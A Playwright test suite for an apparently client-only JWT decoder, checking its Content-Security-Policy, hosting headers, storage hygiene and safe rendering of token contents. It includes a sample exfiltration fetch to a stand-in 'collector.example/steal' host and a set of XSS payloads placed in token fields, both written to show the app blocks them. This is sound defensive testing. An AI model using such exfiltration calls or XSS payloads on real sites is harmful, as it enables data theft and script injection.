import { createPrivateKey, generateKeyPairSync, sign } from 'node:crypto';
import { readFileSync } from 'node:fs';
import type { BrowserContext, Page } from '@playwright/test';
import { exportJWK, generateKeyPair, SignJWT } from 'jose';
import {
  CONTENT_SECURITY_POLICY,
  SERVICE_WORKER_CONTENT_SECURITY_POLICY,
  SERVICE_WORKER_URL_POLICY,
} from '../vite.config';
import { b64url, rawToken, SECRET, TYPICAL } from './tokens';
import { expect, test } from './fixtures';

/** A policy's directives, by name: `default-src 'none'; img-src 'self'` -> {default-src: "'none'", ...}. */
function directives(policy: string): Map<string, string> {
  return new Map(
    policy
      .split(';')
      .map((directive) => directive.trim())
      .filter((directive) => directive !== '')
      .map((directive) => {
        const [name = '', ...sources] = directive.split(/\s+/);
        return [name, sources.join(' ')] as const;
      }),
  );
}

type HeaderRule = { pattern: RegExp; attach: [string, string][]; detach: string[] };

/** The rules of a `_headers` file: a path pattern, then indented `Name: value` and `! Name` lines. */
function headerRules(text: string): HeaderRule[] {
  const rules: HeaderRule[] = [];
  for (const line of text.split('\n')) {
    if (line.trim() === '' || line.trim().startsWith('#')) continue;
    if (!line.startsWith(' ')) {
      const pattern = line
        .trim()
        .replace(/[.+?^${}()|[\]\\]/g, '\\$&')
        .replaceAll('*', '.*');
      rules.push({ pattern: new RegExp(`^${pattern}$`), attach: [], detach: [] });
      continue;
    }
    const rule = rules.at(-1);
    const detach = /^\s+!\s*(\S+)$/.exec(line);
    const attach = /^\s+([\w-]+): (.+)$/.exec(line);
    if (rule === undefined || (detach === null && attach === null)) throw new Error(`unreadable: ${line}`);
    if (detach !== null) rule.detach.push(detach[1] ?? '');
    if (attach !== null) rule.attach.push([attach[1] ?? '', attach[2] ?? '']);
  }
  return rules;
}

/**
 * The headers a host sends for `path`. Cloudflare Pages applies every matching rule in order, joins a header
 * two rules attach with a comma (two CSPs, both enforced) and lets `! Name` drop an inherited one; Netlify lets
 * a later rule's value replace an earlier one and ignores `!` lines.
 */
function headersFor(rules: HeaderRule[], path: string, host: 'cloudflare' | 'netlify'): Map<string, string> {
  const headers = new Map<string, string>();
  for (const rule of rules.filter((r) => r.pattern.test(path))) {
    if (host === 'cloudflare') for (const name of rule.detach) headers.delete(name);
    for (const [name, value] of rule.attach) {
      const before = headers.get(name);
      headers.set(name, host === 'cloudflare' && before !== undefined ? `${before}, ${value}` : value);
    }
  }
  return headers;
}

/** The `add_header` lines of an nginx block, by name. */
function nginxHeaders(block: string): Map<string, string> {
  return new Map(
    [...block.matchAll(/^\s*add_header ([\w-]+) "([^"]*)" always;$/gm)].map(
      ([, name, value]) => [name ?? '', value ?? ''] as const,
    ),
  );
}

/** Every `securitypolicyviolation` the page reports, from its first script on. */
async function watchViolations(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as { __violations?: string[] }).__violations = seen;
    document.addEventListener('securitypolicyviolation', (event) => {
      seen.push(`${event.effectiveDirective} blocked ${event.blockedURI} ${event.sample}`);
    });
  });
  return () => page.evaluate(() => (window as { __violations?: string[] }).__violations ?? []);
}

test.describe('nothing leaves the page', () => {
  test('the built page carries the Content-Security-Policy, and it refuses a cross-origin fetch', async ({
    app,
    page,
  }) => {
    await app.open();
    const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(csp).toBe(CONTENT_SECURITY_POLICY);
    expect(csp).toContain("connect-src 'none'");
    const violations: string[] = [];
    page.on('console', (m) => {
      if (m.text().includes('Content Security Policy')) violations.push(m.text());
    });
    // Route the request so that, were the policy missing, the test would see it succeed rather than time out.
    await page.route('https://collector.example/**', (route) =>
      route.fulfill({ status: 200, body: 'leaked' }),
    );
    const result = await page.evaluate(() =>
      fetch('https://collector.example/steal?token=x').then(
        () => 'sent',
        () => 'refused',
      ),
    );
    expect(result).toBe('refused');
    expect(violations.join('\n')).toContain('connect-src');
  });

  test('the built index.html allows nothing by default and no connection at all, not even to its origin', () => {
    const html = readFileSync('dist/index.html', 'utf8');
    const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(html);
    const policy = directives((meta?.[1] ?? '').replaceAll('&#39;', "'"));
    expect(policy.get('default-src')).toBe("'none'");
    expect(policy.get('connect-src')).toBe("'none'");
    expect(policy.get('object-src')).toBe("'none'");
    expect(policy.get('base-uri')).toBe("'none'");
    expect(policy.get('form-action')).toBe("'none'");
    expect(policy.get('require-trusted-types-for')).toBe("'script'");
    // What the page needs, from its own origin only: no other host, no data: or blob:, no eval.
    expect(policy.get('script-src')).toBe("'self'");
    expect(policy.get('style-src')).toBe("'self' 'unsafe-inline'");
    for (const name of ['img-src', 'manifest-src', 'worker-src'])
      expect(policy.get(name), name).toBe("'self'");
    const known = ["'none'", "'self'", "'unsafe-inline'", "'script'", SERVICE_WORKER_URL_POLICY];
    for (const [name, sources] of policy) {
      for (const source of sources.split(' ')) expect(known, `${name} ${source}`).toContain(source);
    }
  });

  test('a same-origin fetch from the page is refused by the policy, and never reaches the server', async ({
    app,
    page,
    context,
  }) => {
    const violations = await watchViolations(page);
    await app.open();
    // Were the request let through, the route would answer it (and the test would see 'sent').
    const reached: string[] = [];
    context.on('request', (request) => {
      if (request.url().includes('leak=')) reached.push(request.url());
    });
    await context.route(/leak=/, (route) => route.fulfill({ status: 200, body: 'logged' }));
    const results = await page.evaluate(async () => {
      const tryFetch = (url: string) =>
        fetch(url).then(
          () => 'sent',
          () => 'refused',
        );
      return [await tryFetch('./?leak=x'), await tryFetch(new URL('./?leak=y', location.href).href)];
    });
    expect(results).toEqual(['refused', 'refused']);
    await expect.poll(violations).toContainEqual(expect.stringMatching(/^connect-src blocked .*leak=x/));
    expect(reached).toEqual([]);
  });

  test('decoding, verifying (lazy chunks) and switching themes raise no policy violation at all', async ({
    app,
    page,
  }) => {
    const violations = await watchViolations(page);
    const errors: string[] = [];
    page.on('console', (message) => {
      if (message.type() === 'error') errors.push(message.text());
    });
    page.on('pageerror', (error) => errors.push(error.message));
    await app.open();
    // The service worker registers through the page's one Trusted Types policy.
    await page.evaluate(async () => {
      await navigator.serviceWorker.ready;
    });

    await app.pasteToken(TYPICAL);
    await expect(app.payloadJson).toContainText('"Grace Hopper"');
    await app.key.use(SECRET);
    await app.expectVerdict('verified');
    // Key reading (PEM and JWK) and the extra curves are further lazy chunks.
    const { publicKey, privateKey } = await generateKeyPair('RS256');
    await app.pasteToken(
      await new SignJWT({ sub: 'rs' }).setProtectedHeader({ alg: 'RS256' }).sign(privateKey),
    );
    await app.key.use(JSON.stringify(await exportJWK(publicKey)));
    await app.expectVerdict('verified');
    const k1 = generateKeyPairSync('ec', { namedCurve: 'secp256k1' });
    const input = `${b64url('{"alg":"ES256K"}')}.${b64url('{"sub":"k1"}')}`;
    const signature = sign('sha256', Buffer.from(input), { key: k1.privateKey, dsaEncoding: 'ieee-p1363' });
    await app.pasteToken(`${input}.${signature.toString('base64url')}`);
    await app.key.use(JSON.stringify(k1.publicKey.export({ format: 'jwk' })));
    await app.expectVerdict('verified');
    // A broken token: the error view and the editor's error mark.
    await app.pasteToken(rawToken('{"alg":"HS256"', '{}'));
    await expect(app.decodeError).toBeVisible();
    for (const theme of ['Dark theme', 'Light theme', 'System theme'] as const) {
      await app.topBar.chooseTheme(theme);
    }
    // Violation events are queued as tasks: give the last ones time to arrive.
    await page.waitForTimeout(200);

    expect(await violations()).toEqual([]);
    expect(errors).toEqual([]);
  });

  test('the _headers file sends the page policy, forbids framing, and gives the service worker its own', () => {
    const rules = headerRules(readFileSync('dist/_headers', 'utf8'));
    for (const host of ['cloudflare', 'netlify'] as const) {
      const page = headersFor(rules, '/', host);
      expect(page.get('Content-Security-Policy'), host).toBe(
        `${CONTENT_SECURITY_POLICY}; frame-ancestors 'none'`,
      );
      expect(page.get('Referrer-Policy'), host).toBe('no-referrer');
      expect(page.get('X-Content-Type-Options'), host).toBe('nosniff');
      // The worker could not precache under connect-src 'none'; it gets only what it needs.
      const worker = headersFor(rules, '/sw.js', host);
      expect(worker.get('Content-Security-Policy'), host).toBe(SERVICE_WORKER_CONTENT_SECURITY_POLICY);
      expect(new Map([...worker].filter(([name]) => name !== 'Content-Security-Policy')), host).toEqual(
        new Map([...page].filter(([name]) => name !== 'Content-Security-Policy')),
      );
      // Every other file gets the page's headers.
      expect(headersFor(rules, '/assets/index.js', host), host).toEqual(page);
    }
    expect(directives(SERVICE_WORKER_CONTENT_SECURITY_POLICY).get('connect-src')).toBe("'self'");
  });

  test('the nginx configuration for containers sends every header of _headers, with the same values', () => {
    const rules = headerRules(readFileSync('public/_headers', 'utf8'));
    const nginx = readFileSync('docs/nginx.conf', 'utf8');
    // The server block's own headers are those outside every location block.
    const server = nginx.replace(/^\s*location [^{]*\{[^}]*\}/gm, '');
    const worker = /^\s*location ~ \/sw\\\.js\$ \{([^}]*)\}/m.exec(nginx)?.[1] ?? '';
    const page = headersFor(rules, '/', 'cloudflare');
    expect(page.size).toBeGreaterThanOrEqual(5);
    expect(nginxHeaders(server)).toEqual(page);
    // A location with an add_header of its own inherits none from the server block: all are repeated.
    expect(nginxHeaders(worker)).toEqual(headersFor(rules, '/sw.js', 'cloudflare'));
    expect(nginx.match(/^\s*add_header /gm)?.length).toBe(2 * page.size);
  });

  test('the test server sends the _headers a host would: the page policy, and the worker its own', async ({
    app,
    page,
  }) => {
    await app.open();
    const pageResponse = await page.request.get('./');
    expect(pageResponse.headers()['content-security-policy']).toBe(
      `${CONTENT_SECURITY_POLICY}; frame-ancestors 'none'`,
    );
    const workerResponse = await page.request.get('./sw.js');
    expect(workerResponse.headers()['content-security-policy']).toBe(SERVICE_WORKER_CONTENT_SECURITY_POLICY);
    expect((await page.request.get('./_headers')).status()).toBe(404);
    // A malformed percent-escape is a bad request, not the end of the server.
    expect((await page.request.get('./%E0%A4%A')).status()).toBe(400);
    expect((await page.request.get('./')).status()).toBe(200);
  });

  test('tokens naming keys by URL (jku, x5u) or an https issuer cause no request', async ({ app, page }) => {
    const requests: string[] = [];
    page.on('request', (r) => requests.push(r.url()));
    await app.open();
    const before = requests.length;
    await app.pasteToken(
      rawToken(
        '{"alg":"RS256","jku":"https://keys.example/jwks.json","x5u":"https://keys.example/cert.pem"}',
        '{"iss":"https://issuer.example","sub":"x"}',
      ),
    );
    await app.key.use('{"keys":[]}');
    await app.expectVerdictSettled();
    // Lazy chunks of the app itself may load; nothing else may.
    const origin = new URL(page.url()).origin;
    expect(requests.slice(before).filter((u) => !u.startsWith(origin))).toEqual([]);
  });
});

test.describe('nothing is kept', () => {
  /** Everything the page could have stored, as one text: storage, IndexedDB, cookies, caches and the URL. */
  async function everythingStored(page: Page, context: BrowserContext): Promise<string> {
    const inPage = await page.evaluate(async () => {
      const dump = (storage: Storage) =>
        Object.keys(storage).map((key) => `${key}=${storage.getItem(key) ?? ''}`);
      const databases = await indexedDB.databases();
      const cached: string[] = [];
      for (const name of await caches.keys()) {
        const cache = await caches.open(name);
        cached.push(...(await cache.keys()).map((request) => request.url));
      }
      return {
        local: dump(localStorage),
        session: dump(sessionStorage),
        databases: databases.map((db) => db.name ?? ''),
        cookie: document.cookie,
        cached,
        url: location.href,
        history: history.length,
      };
    });
    const cookies = await context.cookies();
    return JSON.stringify({ ...inPage, cookies });
  }

  test('after decoding and verifying, no token, secret or private key is in storage or the URL', async ({
    app,
    page,
    context,
  }) => {
    await app.open();
    const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
    const pem = privateKey.export({ format: 'pem', type: 'pkcs8' }).toString();
    const rsToken = await new SignJWT({ sub: 'stored?' })
      .setProtectedHeader({ alg: 'RS256' })
      .sign(createPrivateKey(pem));

    await app.pasteToken(TYPICAL);
    await app.key.use(SECRET);
    await app.expectVerdict('verified');
    // A preference may be kept: choosing a theme must not drag anything else along.
    await app.topBar.chooseTheme('Dark theme');
    await app.pasteToken(rsToken);
    await app.key.use(pem);
    await app.expectVerdict('verified');
    // Give a service worker or a debounced writer time to act.
    await page.waitForTimeout(500);

    const stored = await everythingStored(page, context);
    const pemBody = pem.split('\n')[1] ?? 'missing';
    for (const [what, value] of [
      ['HS256 token', TYPICAL],
      ['its payload segment', TYPICAL.split('.')[1] ?? 'missing'],
      ['RS256 token', rsToken],
      ['its signature', rsToken.split('.')[2] ?? 'missing'],
      ['HMAC secret', SECRET],
      ['private key', pemBody],
    ] as const) {
      expect(stored, what).not.toContain(value);
    }
    // The theme is the one thing remembered.
    expect(stored).toContain('mui-mode=dark');
    expect(page.url()).toBe(new URL('./', page.url()).href);
  });
  test('after editing, signing, generating keys and loading examples, no token or key is kept anywhere', async ({
    app,
    page,
    context,
  }) => {
    await app.open();
    await app.pasteToken(TYPICAL);
    await app.key.use(SECRET);
    await app.editing.edit('payload', '{"sub":"edited-and-signed","role":"admin"}');
    await app.expectVerdict('verified');
    const signedWithSecret = await app.tokenText();
    // A generated key (private PEM into the key input, the token re-signed with it), then its thumbprint as kid.
    await app.editing.chooseAlg('ES256');
    await app.editing.generateKey();
    await app.expectVerdict('verified');
    const generatedKey = await app.key.input.inputValue();
    await app.editing.setKidThumbprint();
    await app.expectVerdict('verified');
    const signedWithGenerated = await app.tokenText();
    const publicKey = await app.editing.publicKey();
    // An example for another algorithm, with its own fresh key.
    await app.editing.loadExample('RS256');
    await app.expectVerdict('verified');
    const exampleKey = await app.key.input.inputValue();
    const exampleToken = await app.tokenText();
    await page.waitForTimeout(500);

    const stored = await everythingStored(page, context);
    const body = (pem: string): string => pem.split('\n')[1] ?? 'missing';
    for (const [what, value] of [
      ['token signed with the secret', signedWithSecret.split('.')[2] ?? 'missing'],
      ['HMAC secret', SECRET],
      ['generated private key', body(generatedKey)],
      ['token signed with it', signedWithGenerated.split('.')[2] ?? 'missing'],
      ['its public key', body(publicKey)],
      ['example private key', body(exampleKey)],
      ['example token', exampleToken.split('.')[1] ?? 'missing'],
    ] as const) {
      expect(value.length, what).toBeGreaterThan(8);
      expect(stored, what).not.toContain(value);
    }
    expect(page.url()).toBe(new URL('./', page.url()).href);
  });
});

test.describe('token contents are data', () => {
  const HOSTILE = {
    script: '<script>window.__xss = 1; alert(1)</script>',
    img: '<img src=x onerror="window.__xss = 2; alert(2)">',
    link: 'javascript:window.__xss=3;alert(3)',
    entities: '&lt;b&gt;bold&lt;/b&gt; &amp; &#x3C;i&#x3E;',
    svg: '<svg onload="window.__xss = 4"></svg>',
  };

  test('HTML, script and javascript: URLs in a token appear literally and run nothing', async ({
    app,
    page,
  }) => {
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await app.open();
    await app.pasteToken(
      rawToken(
        JSON.stringify({ alg: 'HS256', kid: HOSTILE.svg }),
        JSON.stringify({
          sub: HOSTILE.script,
          picture: HOSTILE.img,
          website: HOSTILE.link,
          bio: HOSTILE.entities,
        }),
      ),
    );
    await expect(app.headerJson).toContainText(HOSTILE.svg.replaceAll('"', '\\"'));
    for (const text of [HOSTILE.script, HOSTILE.img.replaceAll('"', '\\"'), HOSTILE.link, HOSTILE.entities]) {
      await expect(app.payloadJson).toContainText(text);
    }
    // A payload that is not JSON is shown as text, and a header that is not JSON in the error: never as markup.
    await app.pasteToken(rawToken('{"alg":"HS256"}', `${HOSTILE.img} not json`));
    await expect(app.payloadJson).toContainText(`${HOSTILE.img} not json`);
    await app.pasteToken(rawToken(`{"alg":"${HOSTILE.script}`, '{}'));
    await expect(app.decodeError).toBeVisible();
    await app.key.use(HOSTILE.svg);
    await page.waitForTimeout(300);

    await expect(
      page.locator('main img, main script, main svg[onload], main a[href^="javascript"]'),
    ).toHaveCount(0);
    expect(await page.evaluate(() => (window as { __xss?: number }).__xss)).toBeUndefined();
    expect(dialogs).toEqual([]);
  });
});
